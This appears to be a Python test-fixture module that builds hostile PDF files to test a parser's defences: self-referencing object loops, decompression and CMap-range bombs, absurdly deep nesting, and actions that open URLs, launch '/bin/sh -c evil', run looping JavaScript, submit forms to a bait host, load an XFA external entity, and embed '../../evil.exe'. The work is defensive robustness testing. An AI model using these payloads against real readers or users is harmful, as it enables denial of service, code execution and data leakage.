"""PDFs that are attacks: loops, ranges and filters that unfold without end, actions, and what lies elsewhere."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

from tests.build import pdf
from tests.build.attacks.attack import PDF, Attack, Bait, Make, cut, files, scratched, squeezed, zeros
from tests.build.pdf_raw import pages_without_type, raw, self_reference

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
# A ruled table under the text: the second reader looks at pages that have one.
_RULES = b" 80 600 m 300 600 l S 80 620 m 300 620 l S 80 600 m 80 620 l S 190 600 m 190 620 l S 300 600 m 300 620 l S "
_CELLS = b"BT /F1 9 Tf 85 605 Td (mot) Tj 110 0 Td (hai) Tj ET "
_SHOW = b"BT /F1 12 Tf 80 700 Td (Bao cao) Tj ET " + _CELLS + _RULES


def stream(data: bytes, more: bytes = b"", *, length: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %s %s >>\nstream\n%s\nendstream" % (length or b"%d" % len(data), more, data)


def packed(data: bytes, more: bytes = b"") -> bytes:
    """A stream, deflated."""
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + more)


def one_page(
    content: bytes = b"",
    *others: bytes,
    font: bytes = _FONT,
    page: bytes = b"",
    catalog: bytes = b"",
    more: bytes = b"",
) -> bytes:
    """A PDF of one page. Objects: 1 catalog, 2 pages, 3 page, 4 content (a whole object), 5 font, 6… `others`.

    `page`, `catalog` and `more` go into the page's, the catalog's and the resources' dictionaries.
    """
    leaf = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> %s >>" % (
        more,
        page if b"/MediaBox" in page else page + b" /MediaBox [0 0 595 842]",
    )
    top = b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw([top, pages, leaf, content or stream(_SHOW), font, *others])


def _cid_font(more: bytes, *, unicode_map: bytes = b"") -> bytes:
    return (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H %s /DescendantFonts [<< /Type /Font "
        b"/Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> "
        b"/FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 >> %s >>] >>" % (unicode_map, more)
    )


def _cmap(inside: bytes) -> bytes:
    return (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /A def 1 begincodespacerange "
        b"<0000> <FFFF> endcodespacerange %s endcmap end end" % inside
    )


def _mapped(inside: bytes) -> bytes:
    """A page in a font whose characters are told by this map."""
    show = stream(b"BT /F1 12 Tf 80 700 Td <00410042> Tj 5 -95 Td <0041> Tj ET" + _RULES)
    return one_page(show, packed(_cmap(inside)), font=_cid_font(b"", unicode_map=b"/ToUnicode 6 0 R"))


def _forms(levels: int, times: int) -> bytes:
    """Forms that show the next one so many times each."""
    objects = []
    for level in range(levels):
        following = b"/Resources << /XObject << /X %d 0 R >> >>" % (7 + level) if level < levels - 1 else b""
        inside = b"/X Do " * times if level < levels - 1 else _SHOW
        objects.append(stream(inside, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + following))
    return one_page(stream(b"/X Do" + _RULES), *objects, more=b"/XObject << /X 6 0 R >>")


def _form_in_itself() -> bytes:
    form = stream(
        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return one_page(stream(b"/X Do" + _RULES), form, more=b"/XObject << /X 6 0 R >>")


def _glyph_in_itself() -> bytes:
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 "
        b"/Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return one_page(
        stream(b"BT /F1 9 Tf (aaaa) Tj ET" + _RULES), stream(b"BT /F1 9 Tf (aaaa) Tj ET"), font=font
    )


def _pattern_in_itself() -> bytes:
    pattern = stream(
        b"/Pattern cs /P scn 0 0 9 9 re f",
        b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 1e-9 /YStep 1e-9 "
        b"/Resources << /Pattern << /P 6 0 R >> >>",
    )
    return one_page(stream(b"/Pattern cs /P scn 0 0 500 500 re f"), pattern, more=b"/Pattern << /P 6 0 R >>")


def _picture(width: int, height: int, data: bytes, more: bytes) -> bytes:
    picture = stream(data, b"/Type /XObject /Subtype /Image /Width %d /Height %d %s" % (width, height, more))
    return one_page(
        stream(b"q 595 0 0 842 0 0 cm /I Do Q " + _SHOW), picture, more=b"/XObject << /I 6 0 R >>"
    )


def _tree(kids: bytes, *others: bytes) -> bytes:
    return raw(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 9 /Kids %s >>" % kids, *others]
    )


def _action(what: str, *, page: bool = False) -> Make:
    """A PDF that does something when it is opened, or when its page is."""

    def make(bait: Bait) -> bytes:
        said = what.replace("HTTP", bait.http).replace("FILE", str(bait.secret)).encode()
        note = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << %s >> >>]" % said
        opened = b"/AA << /O << %s >> >>" % said if page else b""
        return one_page(page=note + opened, catalog=b"/OpenAction << %s >>" % said)

    return make


def _outside(target: str) -> Make:
    """A page whose content lies in another file."""

    def make(bait: Bait) -> bytes:
        said = target.replace("HTTP", bait.http).replace("FILE", str(bait.secret)).encode()
        kind = b"/FS /URL " if b"http" in said else b""
        return one_page(stream(b"", b"/F << /Type /Filespec %s/F (%s) >>" % (kind, said)))

    return make


def _updated(following: bytes) -> bytes:
    """A file whose trailer has these words beside the usual ones."""
    return one_page().replace(b"/Size", following + b" /Size")


def _xref_stream(words: bytes, data: bytes) -> bytes:
    body = b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    table = b"3 0 obj\n" + packed(data, b"/Type /XRef /Root 1 0 R " + words) + b"\nendobj\n"
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _object_streams() -> bytes:
    """Two object streams that extend each other, and hold the page tree."""
    inside = b"2 0 << /Type /Pages /Kids [3 0 R] /Count 1 >>"
    kind = b"/Type /ObjStm /N 1 /First 4 /Extends %d 0 R"
    body = b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    places = [0, 9, 0]
    for number, other in ((4, 5), (5, 4)):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, packed(inside, kind % other))
    rows = (
        struct.pack(">BHB", 0, 0, 255) + struct.pack(">BHB", 1, places[1], 0) + struct.pack(">BHB", 2, 4, 0)
    )
    rows += struct.pack(">BHB", 2, 5, 0) + b"".join(struct.pack(">BHB", 1, place, 0) for place in places[3:])
    table = b"6 0 obj\n" + stream(rows, b"/Type /XRef /Root 1 0 R /Size 6 /W [1 2 1]") + b"\nendobj\n"
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _xfa(bait: Bait) -> bytes:
    form = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{bait.http}/xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'
    return one_page(b"", stream(form.encode()), catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>")


_BOMB = squeezed(zeros(300))
_DOUBLE = zlib.compress(squeezed(zeros(600)), 9)
_SAME_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>"
_CHAIN = b"/Filter [" + b"/ASCIIHexDecode " * 5_000 + b"]"

_LOOPS: dict[str, Make | bytes] = {
    "pdf: an object that is itself": self_reference(),
    "pdf: a tree that holds itself": _tree(b"[2 0 R 2 0 R 2 0 R]"),
    "pdf: a tree in a circle": _tree(b"[3 0 R]", b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 9 >>"),
    "pdf: kids that are themselves": _tree(b"3 0 R", b"3 0 R"),
    "pdf: one page 100 000 times": lambda _: _tree(
        b"[" + b"3 0 R " * 100_000 + b"]", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    ),
    "pdf: a tree 5 000 deep": lambda _: _tree(
        b"[3 0 R]", *(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (4 + n) for n in range(5_000))
    ),
    "pdf: pages 10 to the 9": lambda _: one_page().replace(b"/Count 1", b"/Count 1000000000"),
    "pdf: pages minus one": lambda _: one_page().replace(b"/Count 1", b"/Count -1"),
    "pdf: a page without a type": lambda _: pages_without_type(["mot", "hai", "ba"], 1),
    "pdf: a table before itself": lambda _: _updated(b"/Prev 9"),
    "pdf: a table before the file": lambda _: _updated(b"/Prev -1"),
    "pdf: tables in a circle": lambda _: _circle(),
    "pdf: a table of 10 to the 9 entries": lambda _: one_page().replace(b"xref\n0 6", b"xref\n0 999999999"),
    "pdf: a stream of entries without width": _xref_stream(b"/Size 9 /W [0 0 0]", bytes(99)),
    "pdf: a stream of entries that lie": _xref_stream(b"/Size 2147483647 /Index [0 2147483647] /W [1 8 8]", bytes(99)),
    "pdf: a stream of entries before itself": _xref_stream(b"/Size 9 /W [1 2 1] /Prev 120", bytes(36)),
    "pdf: object streams in a circle": lambda _: _object_streams(),
    "pdf: a length that is itself": lambda _: one_page(stream(_SHOW, length=b"4 0 R")),
    "pdf: a length of 10 to the 12": lambda _: one_page(stream(_SHOW, length=b"1000000000000")),
    "pdf: a length below zero": lambda _: one_page(stream(_SHOW, length=b"-1")),
    "pdf: a form in itself": lambda _: _form_in_itself(),
    "pdf: a glyph in itself": lambda _: _glyph_in_itself(),
    "pdf: a pattern in itself": lambda _: _pattern_in_itself(),
    "pdf: a font that is its own descendant": lambda _: one_page(
        font=b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [5 0 R] >>"
    ),
    "pdf: a map that uses itself": lambda _: one_page(
        b"", stream(b"/A usecmap", b"/Type /CMap /CMapName /A /UseCMap 6 0 R"),
        font=b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding 6 0 R /DescendantFonts [] >>",
    ),
    "pdf: an outline in a circle": lambda _: one_page(
        b"", b"<< /First 7 0 R /Last 7 0 R /Count 9 >>", b"<< /Title (a) /Next 7 0 R /First 6 0 R /Parent 6 0 R >>",
        catalog=b"/Outlines 6 0 R",
    ),
    "pdf: names in a circle": lambda _: one_page(b"", b"<< /Kids [6 0 R] >>", catalog=b"/Names << /Dests 6 0 R >>"),
    "pdf: a structure in a circle": lambda _: one_page(
        b"", b"<< /Type /StructTreeRoot /K 7 0 R >>", b"<< /S /P /K [7 0 R 6 0 R] /P 7 0 R >>",
        catalog=b"/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R",
    ),
    "pdf: form fields in a circle": lambda _: one_page(
        b"", b"<< /T (a) /FT /Tx /Parent 6 0 R /Kids [6 0 R] /Subtype /Widget /Rect [0 0 9 9] >>",
        catalog=b"/AcroForm << /Fields [6 0 R] >>", page=b"/Annots [6 0 R 6 0 R]",
    ),
}  # fmt: skip


def _circle() -> bytes:
    """Two tables, each before the other."""
    made = one_page()
    start = made.rindex(b"xref\n0 ")
    again = made[start:].replace(b"/Size", b"/Prev %d /Size" % start)
    again = again.replace(b"startxref\n%d" % start, b"startxref\n%d" % (len(made) + 20))
    return made.replace(b"trailer\n<< ", b"trailer\n<< /Prev %d " % (len(made) + 20)) + again


_BOMBS: dict[str, Make | bytes] = {
    "pdf: a map of 2 to the 32": lambda _: _mapped(b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange"),
    "pdf: 100 maps of 2 to the 16": lambda _: _mapped(b"100 beginbfrange " + b"<0000> <FFFF> <0041> " * 100 + b"endbfrange"),
    "pdf: a map of codes 2 to the 32": lambda _: _mapped(b"1 begincidrange <00000000> <FFFFFFFF> 0 endcidrange"),
    "pdf: a map to texts of 1 MB": lambda _: _mapped(b"1 beginbfchar <0041> <" + b"0041" * 500_000 + b"> endbfchar"),
    "pdf: widths of 2 to the 31": lambda _: one_page(font=_cid_font(b"/W [0 2147483647 500]")),
    "pdf: upright widths of 2 to the 31": lambda _: one_page(font=_cid_font(b"/W2 [0 2147483647 1 2 3]")),
    "pdf: widths of a simple font": lambda _: one_page(
        font=_FONT[:-2] + b"/FirstChar 0 /LastChar 2147483647 /Widths [1] >>"
    ),
    "pdf: forms 10 to the 20": lambda _: _forms(20, 10),
    "pdf: forms 2 to the 30": lambda _: _forms(30, 2),
    "pdf: 300 MB of blanks in 300 kB": lambda _: one_page(stream(_BOMB, b"/Filter /FlateDecode")),
    "pdf: 600 MB in 1 kB, packed twice": lambda _: one_page(stream(_DOUBLE, b"/Filter [/FlateDecode /FlateDecode]")),
    "pdf: 5 000 filters": lambda _: one_page(stream(b"41>", _CHAIN)),
    "pdf: a predictor of 2 to the 31 columns": lambda _: one_page(
        packed(b"abc", b"/DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 99 /BitsPerComponent 32 >>")
    ),
    "pdf: LZW without end": lambda _: one_page(stream(b"\x80\x0b\x60\x50" * 50_000, b"/Filter /LZWDecode")),
    "pdf: run lengths": lambda _: one_page(stream(b"\x81 " * 2_000_000, b"/Filter [/RunLengthDecode]")),
    "pdf: a million operators": lambda _: one_page(packed(b"0 0 m 1 1 l S\n" * 1_000_000)),
    "pdf: a million rectangles": lambda _: one_page(packed(b"1 1 9 9 re S\n" * 1_000_000)),
    "pdf: 300 000 texts": lambda _: one_page(packed(b"BT /F1 9 Tf (a) Tj ET\n" * 300_000)),
    "pdf: one text of 5 MB": lambda _: one_page(packed(b"BT /F1 9 Tf (" + b"a" * 5_000_000 + b") Tj ET")),
    "pdf: a million states kept": lambda _: one_page(packed(b"q " * 1_000_000 + _SHOW)),
    "pdf: arrays 100 000 deep": lambda _: one_page(stream(b"[" * 100_000 + b"] TJ")),
    "pdf: arrays 100 000 deep in the page": lambda _: one_page(page=b"/X " + b"[" * 100_000),
    "pdf: dictionaries 50 000 deep": lambda _: one_page(page=b"/X " + b"<< /X " * 50_000),
    "pdf: brackets 100 000 deep in a text": lambda _: one_page(stream(b"BT /F1 9 Tf " + b"(" * 100_000 + b" Tj ET")),
    "pdf: a page of 10 to the 38": lambda _: one_page(page=b"/MediaBox [0 0 1e38 1e38]"),
    "pdf: a page of 14 400, 200 times enlarged": lambda _: one_page(page=b"/MediaBox [0 0 14400 14400] /UserUnit 200"),
    "pdf: a page of nothing": lambda _: one_page(page=b"/MediaBox [9 9 9 9] /Rotate 37"),
    "pdf: a page turned inside out": lambda _: one_page(page=b"/MediaBox [595 842 -9e9 (a)] /CropBox [] /Rotate 1e9"),
    "pdf: letters of 10 to the 30": lambda _: one_page(stream(b"BT /F1 1e30 Tf 1e30 Tz 1e-30 0 0 1e30 0 0 Tm (a b) Tj ET")),
    "pdf: a picture of 50 000 x 50 000": lambda _: _picture(
        50_000, 50_000, squeezed(zeros(299)), b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode"
    ),
    "pdf: a picture of 2 to the 31": lambda _: _picture(2**31 - 1, 2**31 - 1, b"x", b"/ColorSpace /DeviceRGB /BitsPerComponent 8"),
    "pdf: a fax of 2 to the 31 columns": lambda _: _picture(
        2**31 - 1, 9, b"\0" * 99, b"/ImageMask true /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 >>"
    ),
    "pdf: noise for JBIG2": lambda _: _picture(900, 900, b"\xff" * 900, b"/ImageMask true /Filter /JBIG2Decode"),
    "pdf: noise for JPEG 2000": lambda _: _picture(900, 900, b"\xff\x4f\xff\x51" + b"\xff" * 900, b"/Filter /JPXDecode"),
    "pdf: a small picture 50 000 times": lambda _: one_page(
        packed(b"q 9 0 0 9 0 0 cm BI /W 1 /H 1 /CS /G /BPC 8 ID a EI Q\n" * 50_000)
    ),
    "pdf: a picture in the text that never ends": lambda _: one_page(stream(b"BI /W 9 /H 9 /CS /G /BPC 8 ID " + b"a" * 999)),
    "pdf: a font file of noise": lambda _: one_page(
        b"", stream(b"\0\1\0\0\xff\xff" + b"\xff" * 9_000),
        font=b"<< /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor << /FontFile2 6 0 R /Flags 4 >> >>",
    ),
    "pdf: differences without end": lambda _: one_page(
        font=_FONT[:-2] + b"/Encoding << /Differences [" + b"65 /uni0041 " * 200_000 + b"] >> >>"
    ),
    "pdf: 200 000 objects": lambda _: one_page(b"", *[b"null"] * 200_000),
    "pdf: 20 000 notes": lambda _: one_page(
        page=b"/Annots [" + b"<< /Subtype /Text /Rect [0 0 9 9] /Contents (a) >> " * 20_000 + b"]"
    ),
    "pdf: 20 MB of comments": lambda _: b"%PDF-1.4\n" + b"%aaaaaaaa\n" * 2_000_000 + one_page(),
    "pdf: 2 000 pages": lambda _: raw([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 2000 /Kids [" + b" ".join(b"%d 0 R" % (5 + n) for n in range(2_000)) + b"] >>",
        stream(_SHOW), _FONT,
        *[_SAME_PAGE] * 2_000,
    ]),
}  # fmt: skip

_ELSEWHERE: dict[str, Make | bytes] = {
    "pdf: opens an address": _action("/S /URI /URI (HTTP/uri)"),
    "pdf: starts a program": _action("/S /Launch /F (FILE) /Unix << /F (/bin/sh) /P (-c evil) >>"),
    "pdf: runs a script": _action("/S /JavaScript /JS (this.submitForm\\('HTTP/js'\\); while\\(1\\);)", page=True),
    "pdf: goes to another file": _action("/S /GoToR /F << /FS /URL /F (HTTP/r.pdf) >> /D [0 /Fit]"),
    "pdf: sends its form": _action("/S /SubmitForm /F << /FS /URL /F (HTTP/form) >>", page=True),
    "pdf: takes data in": _action("/S /ImportData /F (FILE)"),
    "pdf: plays from the net": _action("/S /Rendition /R << /S /MR /C << /D << /FS /URL /F (HTTP/m) >> >> >>"),
    "pdf: a page from a file": _outside("FILE"),
    "pdf: a page from the net": _outside("HTTP/page"),
    "pdf: a form with entities": _xfa,
    "pdf: a file inside": lambda _: one_page(
        b"", stream(b"MZ" + bytes(99), b"/Type /EmbeddedFile"),
        catalog=b"/Names << /EmbeddedFiles << /Names [(../../evil.exe) << /F (../../evil.exe) /EF << /F 6 0 R >> >>] >> >>",
    ),
}  # fmt: skip


def report(pages: int = 3) -> bytes:
    """A report to cut and to scratch."""
    return pdf.pdf([pdf.Para(f"Đoạn {n} của báo cáo sơ kết 03 năm.") for n in range(pages * 20)])


def _odd() -> dict[str, Make | bytes]:
    made: dict[str, Make | bytes] = {
        "pdf: a mark and nothing": b"%PDF-1.7\n",
        "pdf: a password": lambda _: pdf.pdf([pdf.Para("kín")], password="khoa"),  # noqa: S106 -- of a test's file
        "pdf: locked in an unknown way": lambda _: _updated(b"/Encrypt << /Filter /Secret /V 99 /R 99 >>"),
        "pdf: locked by half": lambda _: _updated(
            b"/Encrypt << /Filter /Standard /V 5 /R 6 /O (a) /U (b) /P -1 >>"
        ),
        "pdf: no catalog": lambda _: one_page().replace(b"/Root 1 0 R", b"/Root 99 0 R"),
        "pdf: no trailer": lambda _: one_page().partition(b"xref\n0")[0],
        "pdf: starts below zero": lambda _: one_page()[:-15] + b"startxref\n-999999999999\n%%EOF",
        "pdf: a zip as well": lambda _: b"PK\x03\x04" + one_page() + b"PK\x05\x06" + bytes(18),
        "pdf: names with NUL": lambda _: one_page().replace(b"/F1", b"/F#001"),
    }
    for number in range(6):
        name = f"pdf: cut at random, {number}"
        made[name] = lambda _, name=name: cut(name, report())  # type: ignore[misc]  # a default holds the loop's value
    for number in range(6):
        name = f"pdf: scratched at random, {number}"
        made[name] = lambda _, name=name: scratched(name, report())  # type: ignore[misc]  # a default holds the loop's value
    return made


def attacks() -> Iterator[Attack]:
    """All of them."""
    yield from files(_LOOPS | _BOMBS | _ELSEWHERE | _odd(), file="bao cao.pdf", declared=PDF)
